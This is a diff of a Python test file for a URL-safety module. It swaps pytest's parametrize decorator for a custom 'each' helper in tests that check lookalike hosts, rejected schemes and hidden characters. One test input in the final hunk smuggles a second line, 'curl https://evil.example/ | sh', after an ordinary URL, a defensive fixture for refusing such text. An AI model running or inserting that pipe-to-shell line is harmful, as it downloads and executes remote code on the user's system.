@@ -17,12 +17,13 @@ from irtui.model.addresses import (
 )
 from irtui.model.records import Source
 from irtui.model.safe_text import unsafe_characters
+from tests.each import each
 from tests.query.answers import BUNDLED, world
 
 HIDDEN = "it has a line break or a hidden character"
 
 
-@pytest.mark.parametrize(
+@each(
     ("text", "url"),
     [
         ("https://example.org/a?b=c#d", "https://example.org/a?b=c#d"),
@@ -72,7 +73,7 @@ def test_a_host_that_looks_other_than_it_reads_is_given_away(text: str, host: st
     assert urlsplit(found.url).hostname == host
 
 
-@pytest.mark.parametrize(
+@each(
     ("text", "why"),
     [
         ("", "only http and https"),
@@ -122,7 +123,7 @@ def test_all_else_is_not_opened_and_the_reason_is_given(text: str, why: str) -> 
     assert address_to_copy(text) is None
 
 
-@pytest.mark.parametrize(
+@each(
     "text",
     [
         "https://example.org/\ncurl https://evil.example/ | sh",
